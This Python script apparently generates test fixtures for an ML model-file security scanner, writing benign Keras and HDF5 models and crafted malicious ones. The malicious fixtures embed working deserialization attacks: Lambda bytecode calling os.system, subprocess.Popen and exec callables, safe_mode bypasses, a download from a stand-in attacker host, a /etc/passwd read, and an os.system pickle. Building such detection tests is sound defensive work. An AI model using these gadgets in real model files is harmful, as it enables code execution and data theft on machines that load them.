#!/usr/bin/env python3
"""Generate the Keras / HDF5 fixtures under testdata/models/{benign,malicious}/keras/ and
testdata/models/manifest.keras.json.

Benign files are written by the REAL producers from tiny, randomly initialised models (nothing
is downloaded): Keras 3 (`model.save('x.keras')`, `model.save('x.h5')` — the legacy HDF5
writer —, `model.save_weights('x.weights.h5')`) and tf.keras 2 (`tf_keras`, the legacy H5
producer of TensorFlow 2.x). Malicious files are CRAFTED: h5py rewrites root attributes of a
real file, zipfile rewrites `config.json` of a real `.keras` archive. Nothing crafted is ever
loaded; the Lambda payloads are `marshal.dumps(compile(...))` of code objects, which compiles
the source but never runs it.

How to run (one venv, Python 3.11.7; installed from PyPI):

    python3 -m venv /tmp/venv-tfk
    /tmp/venv-tfk/bin/pip install tensorflow-cpu==2.21.0 tf-keras==2.21.0 keras==3.15.1 h5py==3.14.0
    TF_CPP_MIN_LOG_LEVEL=3 /tmp/venv-tfk/bin/python testdata/gen/gen_keras.py

Versions that wrote the committed benign files: keras 3.15.1 (TensorFlow backend),
tensorflow-cpu 2.21.0, tf-keras 2.21.0, h5py 3.14.0 (HDF5 1.14.6), numpy 2.4.6.

The script rewrites everything under benign/keras/ and malicious/keras/ and the whole of
manifest.keras.json; other fixtures are untouched. Output is not byte-for-byte reproducible
(random weights, timestamps in metadata.json), its structure is.

Fixtures (see manifest.keras.json for the technique and the rules each must fire):
  benign/keras/      Sequential and Functional models as .keras, legacy .h5 (Keras 3 and
                     tf.keras), weights-only .weights.h5, a registered custom layer (reported
                     low: it needs custom_objects).
  malicious/keras/   Lambda layers with marshaled bytecode (tf.keras list form, Keras 3
                     __lambda__, nested inside a nested model, bytes-typed attribute, dense
                     attribute storage), callables outside Keras (os.system, builtins.exec,
                     subprocess.Popen, a custom loss in training_config), safe_mode bypass
                     gadgets (enable_unsafe_deserialization, get_file, nested load_model,
                     TFSMLayer), StringLookup reading a local file, malformed HDF5 / JSON, and a
                     pickle named .h5.
"""

import base64
import copy
import io
import json
import marshal
import os
import pickle
import shutil
import sys
import tempfile
import zipfile

os.environ.setdefault("KERAS_BACKEND", "tensorflow")
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import h5py  # noqa: E402
import numpy as np  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
MODELS = os.path.normpath(os.path.join(HERE, "..", "models"))
BENIGN = os.path.join(MODELS, "benign", "keras")
MALICIOUS = os.path.join(MODELS, "malicious", "keras")

MANIFEST = []

# Rule ids (rules/catalog.yaml).
LAMBDA = "MOD401"
UNSAFE_CALLABLE = "MOD402"
BYPASS = "MOD403"
EXTERNAL = "MOD404"
CUSTOM = "MOD405"
MALFORMED = "MOD406"


def entry(path, kind, technique, expect=(), imports=()):
    MANIFEST.append(
        {
            "file": os.path.relpath(path, MODELS).replace(os.sep, "/"),
            "kind": kind,
            "technique": technique,
            "expect": list(expect),
            "imports": list(imports),
        }
    )


def payload_code(src):
    """Base64 of marshal.dumps of a compiled lambda: compiled, never run."""
    module = compile(src, "<payload>", "eval")
    # The lambda's own code object is the first constant of the module code.
    fn_code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(fn_code)).decode("ascii")


OS_SYSTEM = payload_code("lambda x: __import__('os').system('touch /tmp/llmguard-pwned') or x")
EXEC_EVAL = payload_code("lambda x: eval(compile('import socket', 'p', 'exec')) or x")


# ---------------------------------------------------------------------------------------------
# Benign (real producers)
# ---------------------------------------------------------------------------------------------


def benign():
    import keras
    import tf_keras

    keras.utils.set_random_seed(0)
    seq = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)],
        name="tiny_sequential",
    )
    p = os.path.join(BENIGN, "sequential_dense.h5")
    seq.save(p)
    entry(p, "benign", f"keras {keras.__version__} Sequential(Dense) saved as legacy HDF5 (model.save('.h5'))")
    p = os.path.join(BENIGN, "sequential_dense.keras")
    seq.save(p)
    entry(p, "benign", f"keras {keras.__version__} Sequential(Dense) saved as .keras v3 zip")
    p = os.path.join(BENIGN, "dense.weights.h5")
    seq.save_weights(p)
    entry(p, "benign", f"keras {keras.__version__} save_weights: weights-only HDF5, no model_config")

    inp = keras.Input((8, 3), name="seq_in")
    aux = keras.Input((2,), name="aux_in")
    x = keras.layers.Conv1D(4, 3, activation="relu")(inp)
    x = keras.layers.LayerNormalization()(x)
    x = keras.layers.GlobalAveragePooling1D()(x)
    x = keras.layers.Dropout(0.1)(x)
    x = keras.layers.Concatenate()([x, aux])
    out = keras.layers.Dense(2, activation="softmax", kernel_regularizer=keras.regularizers.L2(1e-4))(x)
    fn = keras.Model([inp, aux], out, name="tiny_functional")
    fn.compile(optimizer=keras.optimizers.Adam(1e-3), loss="categorical_crossentropy", metrics=["accuracy"])
    p = os.path.join(BENIGN, "functional_compiled.keras")
    fn.save(p)
    entry(p, "benign", f"keras {keras.__version__} Functional (Conv1D, LayerNormalization, Concatenate), compiled, .keras")
    p = os.path.join(BENIGN, "functional_compiled.h5")
    fn.save(p)
    entry(p, "benign", f"keras {keras.__version__} Functional, compiled (training_config), legacy HDF5")

    @keras.saving.register_keras_serializable(package="MyPackage")
    class ScaleLayer(keras.layers.Layer):
        def __init__(self, factor=2.0, **kw):
            super().__init__(**kw)
            self.factor = factor

        def call(self, x):
            return x * self.factor

        def get_config(self):
            return {**super().get_config(), "factor": self.factor}

    custom = keras.Sequential([keras.Input((4,)), ScaleLayer(), keras.layers.Dense(1)], name="with_custom")
    p = os.path.join(BENIGN, "registered_custom_layer.keras")
    custom.save(p)
    entry(
        p,
        "benign",
        f"keras {keras.__version__} model with a registered custom layer (MyPackage>ScaleLayer): loading needs custom_objects (low)",
        [CUSTOM],
    )

    tf_keras.utils.set_random_seed(0)
    legacy = tf_keras.Sequential(
        [
            tf_keras.layers.InputLayer((6,)),
            tf_keras.layers.Dense(4, activation="tanh"),
            tf_keras.layers.BatchNormalization(),
            tf_keras.layers.Dense(1, activation="sigmoid"),
        ],
        name="tfk_sequential",
    )
    legacy.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["AUC"])
    p = os.path.join(BENIGN, "tf_keras_sequential.h5")
    legacy.save(p, save_format="h5")
    entry(p, "benign", f"tf-keras {tf_keras.__version__} Sequential(Dense, BatchNormalization), compiled, HDF5")

    inner = tf_keras.Sequential([tf_keras.layers.Dense(3)], name="inner")
    i = tf_keras.Input((5, 2))
    y = tf_keras.layers.Bidirectional(tf_keras.layers.LSTM(2, return_sequences=True))(i)
    y = tf_keras.layers.TimeDistributed(inner)(y)
    y = tf_keras.layers.Flatten()(y)
    nested = tf_keras.Model(i, y, name="tfk_nested")
    p = os.path.join(BENIGN, "tf_keras_nested_wrappers.h5")
    nested.save(p, save_format="h5")
    entry(p, "benign", f"tf-keras {tf_keras.__version__} Functional with Bidirectional(LSTM) and TimeDistributed(nested Sequential), HDF5")

    # A real tf.keras Lambda (`lambda x: x * 2`): real producer, but loading runs its bytecode.
    lam = tf_keras.Sequential([tf_keras.layers.InputLayer((3,)), tf_keras.layers.Lambda(lambda x: x * 2)], name="tfk_lambda")
    p = os.path.join(MALICIOUS, "tf_keras_real_lambda.h5")
    lam.save(p, save_format="h5")
    entry(p, "malicious", f"tf-keras {tf_keras.__version__} wrote a Lambda(lambda x: x * 2): marshaled bytecode runs on load", [LAMBDA])


# ---------------------------------------------------------------------------------------------
# Malicious (crafted; never loaded)
# ---------------------------------------------------------------------------------------------


def h5_with(src, dst, **attrs):
    shutil.copyfile(src, dst)
    with h5py.File(dst, "r+") as f:
        for k, v in attrs.items():
            if v is None:
                del f.attrs[k]
            else:
                f.attrs[k] = v


def keras_with(src, dst, config=None, raw_config=None, metadata=None):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "config.json":
                if raw_config is not None:
                    data = raw_config
                elif config is not None:
                    data = json.dumps(config).encode()
            if item.filename == "metadata.json" and metadata is not None:
                data = metadata
            zout.writestr(item, data)


def k3_fn(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def k3_lambda_layer(name, function, arguments=None):
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "function": function,
            "arguments": arguments or {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def legacy_lambda(name, code):
    return {
        "class_name": "Lambda",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "function": [code, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def malicious():
    base_h5 = os.path.join(BENIGN, "tf_keras_sequential.h5")
    base_keras = os.path.join(BENIGN, "sequential_dense.keras")
    with h5py.File(base_h5, "r") as f:
        h5_config = json.loads(f.attrs["model_config"])
    with zipfile.ZipFile(base_keras) as z:
        k3_config = json.loads(z.read("config.json"))

    def h5_layers(*extra):
        c = copy.deepcopy(h5_config)
        c["config"]["layers"][2:2] = list(extra)
        return json.dumps(c)

    def k3_layers(*extra):
        c = copy.deepcopy(k3_config)
        c["config"]["layers"][1:1] = list(extra)
        return c

    # --- Lambda bytecode ---
    p = os.path.join(MALICIOUS, "legacy_lambda_os_system.h5")
    h5_with(base_h5, p, model_config=h5_layers(legacy_lambda("pwn", OS_SYSTEM)))
    entry(p, "malicious", "tf.keras Lambda, function = [base64 marshal of os.system code, None, None] (CVE-2024-3660; CVE-2025-9905: .h5 ignores safe_mode)", [LAMBDA], ["system"])

    p = os.path.join(MALICIOUS, "legacy_lambda_bytes_attribute.h5")
    h5_with(base_h5, p, model_config=np.bytes_(h5_layers(legacy_lambda("pwn", EXEC_EVAL)).encode()))
    entry(p, "malicious", "model_config stored as a fixed-length bytes attribute, Lambda with eval/compile bytecode", [LAMBDA], ["eval"])

    nested_model = {
        "class_name": "Sequential",
        "config": {"name": "inner", "layers": [legacy_lambda("deep", OS_SYSTEM)]},
        "name": "inner",
        "inbound_nodes": [],
    }
    wrapper = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": nested_model}}
    p = os.path.join(MALICIOUS, "nested_model_lambda.h5")
    h5_with(base_h5, p, model_config=h5_layers(wrapper))
    entry(p, "malicious", "Lambda inside a Sequential inside TimeDistributed inside the model", [LAMBDA], ["system"])

    p = os.path.join(MALICIOUS, "dense_attribute_storage_lambda.h5")
    with h5py.File(p, "w", libver="latest") as f:
        f.attrs.create("track_order_pad", 0)
        for i in range(12):
            f.attrs[f"pad_{i:02}"] = "x" * 40
        f.attrs["keras_version"] = "2.21.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = h5_layers(legacy_lambda("pwn", OS_SYSTEM))
    entry(p, "malicious", "HDF5 superblock v3, 15 root attributes in dense storage (fractal heap + v2 B-tree), Lambda in model_config", [LAMBDA], ["system"])

    raw = copy.deepcopy(legacy_lambda("raw", OS_SYSTEM))
    raw["config"].update({"function": "system", "function_type": "raw", "module": "os"})
    p = os.path.join(MALICIOUS, "legacy_lambda_raw_os_system.h5")
    h5_with(base_h5, p, model_config=h5_layers(raw))
    entry(p, "malicious", "tf.keras Lambda with function_type raw: function `system` looked up in module `os`", [UNSAFE_CALLABLE], ["os.system"])

    with h5py.File(base_h5, "r") as f:
        training = json.loads(f.attrs["training_config"])
    training["loss"] = k3_fn("builtins", "exec")
    p = os.path.join(MALICIOUS, "training_config_builtins_exec.h5")
    h5_with(base_h5, p, training_config=json.dumps(training))
    entry(p, "malicious", "training_config loss = {module: builtins, class_name: function, config: exec}", [UNSAFE_CALLABLE], ["builtins.exec"])

    # --- .keras v3 ---
    lam = {"class_name": "__lambda__", "config": {"code": OS_SYSTEM, "defaults": None, "closure": None}}
    p = os.path.join(MALICIOUS, "k3_lambda_bytecode.keras")
    keras_with(base_keras, p, k3_layers(k3_lambda_layer("pwn", lam)))
    entry(p, "malicious", "Keras 3 Lambda with {class_name: __lambda__, config: {code: base64 marshal}} (CVE-2024-3660)", [LAMBDA], ["system"])

    p = os.path.join(MALICIOUS, "k3_function_os_system.keras")
    keras_with(base_keras, p, k3_layers(k3_lambda_layer("pwn", k3_fn("os", "system"), {"command": "id"})))
    entry(p, "malicious", "Lambda function = {module: os, class_name: function, config: system} (CVE-2025-1550)", [UNSAFE_CALLABLE], ["os.system"])

    popen = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": None}
    p = os.path.join(MALICIOUS, "k3_class_subprocess_popen.keras")
    keras_with(base_keras, p, k3_layers(popen))
    entry(p, "malicious", "a layer resolved as module subprocess, class Popen (arbitrary module import, CVE-2025-1550)", [UNSAFE_CALLABLE], ["subprocess.Popen"])

    p = os.path.join(MALICIOUS, "k3_enable_unsafe_deserialization.keras")
    keras_with(
        base_keras,
        p,
        k3_layers(
            k3_lambda_layer("unlock", k3_fn("keras.config", "enable_unsafe_deserialization")),
            k3_lambda_layer("pwn", lam),
        ),
    )
    entry(p, "malicious", "Lambda calling keras.config.enable_unsafe_deserialization, then a __lambda__ (CVE-2025-9906)", [BYPASS, LAMBDA], ["enable_unsafe_deserialization"])

    p = os.path.join(MALICIOUS, "k3_get_file.keras")
    keras_with(
        base_keras,
        p,
        k3_layers(
            k3_lambda_layer(
                "fetch",
                k3_fn("keras.utils", "get_file"),
                {"origin": "https://attacker.invalid/payload", "cache_dir": "/tmp", "cache_subdir": "."},
            )
        ),
    )
    entry(p, "malicious", "Lambda calling keras.utils.get_file: downloads a file on load (CVE-2025-8747)", [BYPASS], ["get_file"])

    p = os.path.join(MALICIOUS, "k3_nested_load_model.keras")
    keras_with(base_keras, p, k3_layers(k3_lambda_layer("chain", k3_fn("keras.models", "load_model"), {"safe_mode": False})))
    entry(p, "malicious", "Lambda calling keras.models.load_model with safe_mode false (CVE-2025-9906 variant)", [BYPASS], ["load_model"])

    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
        "registered_name": None,
    }
    p = os.path.join(MALICIOUS, "k3_tfsmlayer.keras")
    keras_with(base_keras, p, k3_layers(tfsm))
    entry(p, "malicious", "TFSMLayer loading an external SavedModel graph (CVE-2026-1462)", [BYPASS], ["TFSMLayer"])

    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": "/etc/passwd", "output_mode": "int"},
        "registered_name": None,
    }
    p = os.path.join(MALICIOUS, "k3_stringlookup_local_file.keras")
    keras_with(base_keras, p, k3_layers(lookup))
    entry(p, "malicious", "StringLookup vocabulary = /etc/passwd: load reads a local file (CVE-2025-12058)", [EXTERNAL], ["/etc/passwd"])

    custom = {
        "module": "evil_pkg.layers",
        "class_name": "Backdoor",
        "config": {"name": "bd"},
        "registered_name": "EvilPkg>Backdoor",
    }
    p = os.path.join(MALICIOUS, "k3_custom_object.keras")
    keras_with(base_keras, p, k3_layers(custom))
    entry(p, "malicious", "layer from an unknown package (EvilPkg>Backdoor): code comes from the loader's custom_objects", [CUSTOM], ["EvilPkg>Backdoor"])

    # --- malformed ---
    with open(base_h5, "rb") as f:
        data = f.read()
    p = os.path.join(MALICIOUS, "truncated.h5")
    with open(p, "wb") as f:
        f.write(data[:1500])
    entry(p, "malformed", "a real tf.keras HDF5 file cut after 1500 bytes", [MALFORMED])

    p = os.path.join(MALICIOUS, "garbage_after_magic.h5")
    with open(p, "wb") as f:
        f.write(b"\x89HDF\r\n\x1a\n" + bytes((i * 37 + 11) % 256 for i in range(600)))
    entry(p, "malformed", "HDF5 magic followed by garbage", [MALFORMED])

    p = os.path.join(MALICIOUS, "model_config_not_json.h5")
    h5_with(base_h5, p, model_config='{"class_name": "Sequential", "config": {"layers": [')
    entry(p, "malformed", "model_config attribute is not JSON", [MALFORMED])

    p = os.path.join(MALICIOUS, "k3_config_not_json.keras")
    keras_with(base_keras, p, raw_config=b"{'class_name': 'Sequential'")
    entry(p, "malformed", ".keras config.json is not JSON", [MALFORMED])

    p = os.path.join(MALICIOUS, "k3_metadata_not_json.keras")
    keras_with(base_keras, p, metadata=b"\x00\x01 not json")
    entry(p, "malformed", ".keras metadata.json is not JSON", [MALFORMED])

    p = os.path.join(MALICIOUS, "pickle_named.h5")
    with open(p, "wb") as f:
        f.write(b"cos\nsystem\n(S'id'\ntR.")
    entry(p, "malicious", "a protocol-0 pickle calling os.system, named .h5", ["MOD305", "MOD101"], ["os.system"])


def main():
    for d in (BENIGN, MALICIOUS):
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    benign()
    malicious()
    MANIFEST.sort(key=lambda e: e["file"])
    with open(os.path.join(MODELS, "manifest.keras.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1)
        f.write("\n")
    print(f"wrote {len(MANIFEST)} fixtures")


if __name__ == "__main__":
    main()
